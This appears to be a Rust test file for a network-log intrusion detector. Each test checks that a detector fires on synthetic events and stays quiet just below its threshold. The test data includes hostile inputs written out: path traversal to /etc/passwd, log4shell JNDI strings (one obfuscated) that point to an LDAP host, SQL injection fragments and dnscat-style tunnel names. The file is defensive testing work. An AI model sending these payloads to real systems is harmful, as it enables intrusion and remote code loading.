//! One attack for each detector, and what is just short of it.

use super::{SECOND, judge, probe, rules};
use crate::model::{Dataset, Event, Field, Origin, Outcome, Transport, Type, Value};

pub(super) const fn dataset(name: &'static str, transaction: bool) -> Dataset {
    Dataset { name, category: &["network"], types: &["info"], protocol: None, transaction, doc: "" }
}
static FLOW: Dataset = dataset("flow", false);
static HTTP: Dataset = dataset("http", true);
static DNS: Dataset = dataset("dns", true);
static FTP: Dataset = dataset("ftp", true);
static TLS: Dataset = dataset("tls", true);
static APP: Dataset = dataset("pino", false);
static REFUSED: Dataset = Dataset { types: &["connection", "denied"], ..dataset("aws.vpcflow", false) };

/// An event with these fields; their declarations live as long as the test program.
pub(super) fn event(
    set: &'static Dataset,
    n: u64,
    second: i64,
    fields: &[(&'static str, Value<'static>)],
) -> Event<'static> {
    let mut event = Event::new(set, Origin { source: 0, record: n, offset: n }, second * SECOND);
    event.source.ip = Some("203.0.113.9".parse().unwrap());
    event.destination.ip = Some("192.0.2.1".parse().unwrap());
    event.destination.port = Some(443);
    event.transport = Some(Transport::Tcp);
    for (name, value) in fields {
        let field: &'static Field = Box::leak(Box::new(Field { name, ty: Type::Keyword, doc: "" }));
        event.push(field, value.clone());
    }
    event
}

fn request(n: u64, target: &str, status: i64) -> Event<'static> {
    let fields = [("url.original", target.to_owned().into()), ("http.response.status_code", status.into())];
    event(&HTTP, n, n.cast_signed(), &fields)
}

pub(super) fn many(count: u64, one: impl Fn(u64) -> Event<'static>) -> Vec<Event<'static>> {
    (0..count).map(one).collect()
}

#[test]
fn attacks_on_the_web() {
    let traversal = |count| many(count, |n| request(n, "/a?f=../../../etc/passwd", 400));
    assert!(rules(&traversal(2)).is_empty());
    assert_eq!(rules(&traversal(3)), ["web.traversal"]);
    let worked = judge(&[&[request(0, "/a?f=../../../etc/passwd", 200)]]);
    assert_eq!((worked[0].rule, worked[0].severity.name()), ("web.traversal", "high"));
    assert_eq!(rules(&[request(0, "/?x=${jndi:ldap://192.0.2.7/a}", 404)]), ["web.log4shell"]);
    assert_eq!(rules(&many(40, |n| request(n, &format!("/hidden{n}"), 404))), ["web.hidden_paths"]);
    assert!(rules(&many(400, |n| request(n, &format!("/missing{}.png", n % 10), 404))).is_empty());
    assert!(rules(&many(500, |n| request(n, "/index.html", 200))).is_empty());
    let old = judge(&[&many(60, |n| request(n, &format!("/photos/{n}.jpg"), 404))]);
    assert_eq!((old[0].rule, old[0].severity.name()), ("web.hidden_paths", "low"));
}

/// A word that attacks send too is a weak sign; several different ones are not searched for by chance.
#[test]
fn one_word_is_no_attack() {
    let severity = |words: &[&str]| {
        let ask = |(n, word): (u64, &&str)| request(n, &format!("/search?q={word}"), 200);
        let found = judge(&[&(0u64..).zip(words).map(ask).collect::<Vec<_>>()]);
        found.iter().map(|f| (f.rule, f.severity.name())).collect::<Vec<_>>()
    };
    let (low, high) = (("web.sql_injection", "low"), ("web.sql_injection", "high"));
    assert_eq!(severity(&["union+select+committee"]), [low]);
    assert_eq!(severity(&["union+select+committee"; 9]), [low]);
    assert_eq!(severity(&["union+select+committee", "sleep(8)+hours", "information_schema"]), [high]);
    assert_eq!(severity(&["1%27+union+select+1,2--"]), [high]);
}

/// A captured request with these fields besides.
fn asked(n: u64, status: i64, more: &[(&'static str, &'static str)]) -> Event<'static> {
    let mut fields = vec![("url.path", "/admin".into()), ("http.response.status_code", status.into())];
    fields.extend(more.iter().map(|(name, text)| (*name, Value::text(text))));
    event(&HTTP, n, n.cast_signed(), &fields)
}

const SCHEME: &str = "netlog.http.request.authorization";
const CHALLENGE: &str = "netlog.http.response.challenge";
const METHOD: &str = "http.request.method";

/// RFC 9110 section 11.6.1: who has not said who it is, is asked, and tries again.
#[test]
fn a_challenge_is_no_refusal() {
    let refused =
        |status, more: &'static [(&'static str, &'static str)]| rules(&many(30, |n| asked(n, status, more)));
    assert!(refused(401, &[(METHOD, "GET"), (CHALLENGE, "Bearer realm=\"x\"")]).is_empty());
    assert!(refused(401, &[(METHOD, "POST"), (CHALLENGE, "Digest realm=\"x\"")]).is_empty());
    assert!(refused(401, &[(METHOD, "GET"), (SCHEME, "NTLM"), (CHALLENGE, "NTLM")]).is_empty(), "type 1");
    assert!(refused(403, &[(METHOD, "GET")]).is_empty(), "nobody logged in");
    assert_eq!(refused(401, &[(METHOD, "GET"), (SCHEME, "Bearer"), (CHALLENGE, "Bearer")]), ["web.refused"]);
    assert_eq!(refused(403, &[(METHOD, "GET"), (SCHEME, "Digest"), ("user.name", "a")]), ["web.refused"]);
    assert_eq!(refused(401, &[(METHOD, "POST")]), ["web.refused"], "a form");
    let log = |n: u64| {
        event(
            &APP,
            n,
            n.cast_signed(),
            &[("url.original", "/".into()), ("http.response.status_code", 401u32.into())],
        )
    };
    assert_eq!(rules(&many(10, log)), ["web.refused"], "a log does not tell");
}

#[test]
fn credentials_that_name_a_user_are_log_ins() {
    let digest = |n, status| {
        asked(n, status, &[(SCHEME, "Digest"), ("user.name", "admin"), (CHALLENGE, "Digest realm=\"x\"")])
    };
    assert!(rules(&many(9, |n| digest(n, 401))).is_empty());
    assert_eq!(rules(&many(10, |n| digest(n, 401))), ["login.bruteforce"]);
    assert_eq!(rules(&many(10, |n| digest(n, 407))), ["login.bruteforce"], "at a proxy");
    let mut events = many(29, |n| digest(n, 401));
    events.push(digest(29, 200));
    assert_eq!(rules(&events), ["login.success_after_failures", "login.bruteforce"]);
    for otherwise in [302, 403, 407, 429, 500] {
        events.push(digest(30, otherwise));
        events.retain(|event| event.by_name("http.response.status_code") != Some(&200u32.into()));
        assert_eq!(rules(&events), ["login.bruteforce"], "{otherwise} accepts nothing");
    }
    assert!(rules(&many(500, |n| digest(n, 200))).is_empty(), "a browser repeats them with every page");
    let stale = |n| {
        asked(
            n,
            401,
            &[(SCHEME, "Digest"), ("user.name", "joe"), (CHALLENGE, "Digest nonce=\"b\", Stale=TRUE")],
        )
    };
    assert!(rules(&many(30, stale)).is_empty());
}

#[test]
fn expressions_in_any_header() {
    let list = Value::texts(["accept-language: ${x}", "x-api-version: ${${::-j}ndi:ldap://192.0.2.7/a}"]);
    let fields = [("url.path", "/".into()), ("netlog.http.request.suspicious_header", list)];
    assert_eq!(rules(&[event(&HTTP, 1, 1, &fields)]), ["web.log4shell"]);
    let fields =
        [("url.path", "/".into()), ("netlog.http.request.suspicious_header", Value::texts(["a: ${x}"]))];
    assert!(rules(&[event(&HTTP, 1, 1, &fields)]).is_empty());
}

fn question(n: u64, name: &str, code: &'static str) -> Event<'static> {
    let domain: Vec<&str> = name.rsplitn(3, '.').collect();
    let domain = format!("{}.{}", domain[1], domain[0]);
    let fields = [
        ("dns.question.name", name.to_owned().into()),
        ("dns.question.type", "A".into()),
        ("dns.question.registered_domain", domain.into()),
        ("dns.response_code", code.into()),
    ];
    event(&DNS, n, n.cast_signed(), &fields)
}

#[test]
fn tunnels_and_made_up_names() {
    let code = |n: u64| format!("{:032x}{:016x}", u128::from(n).wrapping_mul(0x9e37_79b9_7f4a_7c15_f39c), !n);
    let tunnel = |count| many(count, |n| question(n, &format!("{}.t.example", code(n)), "NOERROR"));
    assert!(rules(&tunnel(59)).is_empty());
    assert_eq!(rules(&tunnel(60)), ["dns.tunnel"]);
    // dnscat2 without a domain: all of a name is data.
    let direct =
        many(60, |n| question(n, &format!("dnscat.{}.{}", &code(n)[..16], &code(n)[8..32]), "NOERROR"));
    let found = judge(&[&direct]);
    assert_eq!(found.iter().map(|f| f.rule).collect::<Vec<_>>(), ["dns.tunnel"]);
    assert!(found[0].title.contains("no domain at all"), "{}", found[0].title);
    let cached = many(500, |n| question(n, &format!("{}.cdn.example", code(n % 70)), "NOERROR"));
    assert!(rules(&cached).is_empty(), "the same names again and again are no tunnel");
    let generated = many(100, |n| question(n, &format!("www.{}.example", &code(n)[20..32]), "NXDOMAIN"));
    assert_eq!(rules(&generated), ["dns.generated_names"]);
    let storm = many(100, |n| question(n, &format!("host{n}.corp.example"), "NXDOMAIN"));
    assert_eq!(rules(&storm), ["dns.nxdomain_storm"]);
}

fn call(n: u64, second: i64, (sent, received): (u64, u64)) -> Event<'static> {
    let fields = [("network.direction", "outbound".into()), ("netlog.flow.state", "closed".into())];
    let mut event = event(&FLOW, n, second, &fields);
    event.source.packets = Some(10);
    event.source.bytes = Some(sent);
    event.destination.bytes = Some(received);
    event
}

#[test]
fn calls_to_the_outside() {
    let regular = |every: i64| move |n: u64| call(n, n.cast_signed() * every, (500, 900));
    let found = judge(&[&many(30, regular(60))]);
    assert_eq!(found[0].rule, "outbound.beacon");
    assert!(found[0].title.contains("about every 60 s: score"), "{}", found[0].title);
    assert_eq!(rules(&many(11, regular(60))), [""; 0], "too few");
    assert!(rules(&many(300, regular(1))).is_empty(), "too close: a download in parts");
    // Gaps that double each time, and start again.
    let human = many(60, |n| call(n, (n.cast_signed() / 6) * 4000 + (1 << (n % 6)) * 60, (500 + n * n, 900)));
    assert!(rules(&human).is_empty());
    let carried = |sent, received| rules(&[call(0, 0, (sent, received))]);
    assert_eq!(carried(200 << 20, 1 << 20), ["outbound.exfiltration"]);
    assert!(carried(200 << 20, 50 << 20).is_empty());
    let mut long = call(0, 0, (1, 1));
    long.end = Some(9 * 3600 * SECOND);
    assert_eq!(rules(&[long]), ["outbound.long_connection"]);
}

#[test]
fn floods_and_rejected_scans() {
    let half = |n: u64| {
        let mut event = event(&FLOW, n, 0, &[("netlog.flow.state", "half_open".into())]);
        event.source.ip = Some(std::net::Ipv4Addr::from(0xc633_6400 + (n as u32 % 250)).into());
        event
    };
    assert_eq!(rules(&many(1000, half)), ["flood.syn"]);
    let rejected = |n: u64| {
        let mut event = event(&REFUSED, n, 0, &[]);
        event.destination.port = Some(n as u16 + 1);
        event
    };
    assert_eq!(rules(&many(25, rejected)), ["scan.vertical"]);
}

#[test]
fn weak_protection() {
    let fields = [
        ("tls.version", Value::from("1.0")),
        ("tls.version_protocol", "tls".into()),
        ("tls.established", true.into()),
        ("tls.server.certificate_issues", Value::texts(["expired", "self_signed"])),
    ];
    let found = rules(&[event(&TLS, 0, 0, &fields)]);
    assert_eq!(found, ["tls.certificate", "tls.old_version", "tls.certificate"]);
    let basic = [("netlog.http.request.authorization", Value::from("Basic")), ("user.name", "bob".into())];
    assert_eq!(rules(&[event(&HTTP, 0, 0, &basic)]), ["cleartext.credentials"]);
    let ftp = |user: &'static str| {
        let told = [("netlog.user.clear_password", true.into()), ("user.name", user.into())];
        rules(&[event(&FTP, 0, 0, &told)])
    };
    assert_eq!(ftp("bob"), ["cleartext.credentials"]);
    assert!(ftp("anonymous").is_empty(), "everybody's name");
}

fn login(n: u64, hour: i64, country: &'static str, (lat, lon): (f64, f64)) -> Event<'static> {
    let fields = [
        ("event.category", "authentication".into()),
        ("user.name", "bob".into()),
        ("source.geo.country_iso_code", country.into()),
        ("source.geo.location", Value::Geo(lat, lon)),
    ];
    let mut event = event(&APP, n, hour * 3600, &fields);
    event.outcome = Outcome::Success;
    event
}

#[test]
fn travellers() {
    let (germany, japan) = ((51.1, 10.4), (36.2, 138.2));
    let fast = [login(0, 0, "DE", germany), login(1, 2, "JP", japan)];
    assert_eq!(rules(&fast), ["travel.impossible"]);
    assert!(rules(&[login(0, 0, "DE", germany), login(1, 14, "JP", japan)]).is_empty());
    assert!(rules(&[login(0, 0, "DE", germany), login(1, 0, "NL", (52.1, 5.3))]).is_empty(), "neighbours");
    let mut known = many(5, |n| login(n, n.cast_signed() * 24, "DE", germany));
    known.push(login(9, 400, "JP", japan));
    assert_eq!(rules(&known), ["travel.new_country"]);
}

#[test]
fn services_in_trouble() {
    let line = |level: &'static str| {
        move |n: u64| {
            event(&APP, n, n.cast_signed(), &[("log.level", level.into()), ("service.name", "shop".into())])
        }
    };
    assert!(rules(&many(49, line("error"))).is_empty());
    assert_eq!(rules(&many(50, line("error"))), ["errors.burst"]);
    assert_eq!(rules(&many(1, line("FATAL"))), ["errors.fatal"]);
    assert!(rules(&many(500, line("info"))).is_empty());
}

#[test]
fn just_short_of_each() {
    assert!(
        rules(&many(999, |n| {
            let mut event = event(&FLOW, n, 0, &[("netlog.flow.state", "half_open".into())]);
            event.source.ip = Some(std::net::Ipv4Addr::from(0xc633_6400 + (n as u32 % 250)).into());
            event
        }))
        .is_empty()
    );
    let mut long = call(0, 0, (1, 1));
    long.end = Some(7 * 3600 * SECOND);
    assert!(rules(&[long]).is_empty());
    let good = [
        ("tls.version", Value::from("1.2")),
        ("tls.version_protocol", "tls".into()),
        ("tls.established", true.into()),
    ];
    assert!(rules(&[event(&TLS, 0, 0, &good)]).is_empty());
    // Offered by the client alone, refused by the server.
    let refused = [
        ("tls.version", Value::from("1.0")),
        ("tls.version_protocol", "tls".into()),
        ("tls.established", false.into()),
    ];
    assert!(rules(&[event(&TLS, 0, 0, &refused)]).is_empty());
    let bearer = [("netlog.http.request.authorization", Value::from("Bearer")), ("user.name", "bob".into())];
    assert!(rules(&[event(&HTTP, 0, 0, &bearer)]).is_empty());
    assert!(rules(&many(39, |n| request(n, &format!("/hidden{n}"), 404))).is_empty());
    assert!(rules(&many(9, |n| request(n, "/admin", 401))).is_empty());
    assert!(rules(&many(99, |n| question(n, &format!("host{n}.corp.example"), "NXDOMAIN"))).is_empty());
    for harmless in ["/search?q=select+the+union", "/download?file=report.pdf", "/cmd/manual.html", "/shell"]
    {
        assert!(rules(&many(30, |n| request(n, harmless, 200))).is_empty(), "{harmless}");
    }
}

#[test]
fn scans_that_take_days() {
    let slow = |count| {
        many(count, |n| {
            let mut event = probe(n, "192.0.2.1", 1000 + n as u16, "refused", &["syn"]);
            event.ts = n.cast_signed() * 7200 * SECOND;
            event
        })
    };
    let found = judge(&[&slow(25)]);
    assert_eq!(found[0].rule, "scan.vertical");
    assert_eq!(found[0].last.ts - found[0].first.ts, 24 * 7200 * SECOND, "two days from first to last");
    assert!(rules(&slow(24)).is_empty());
}
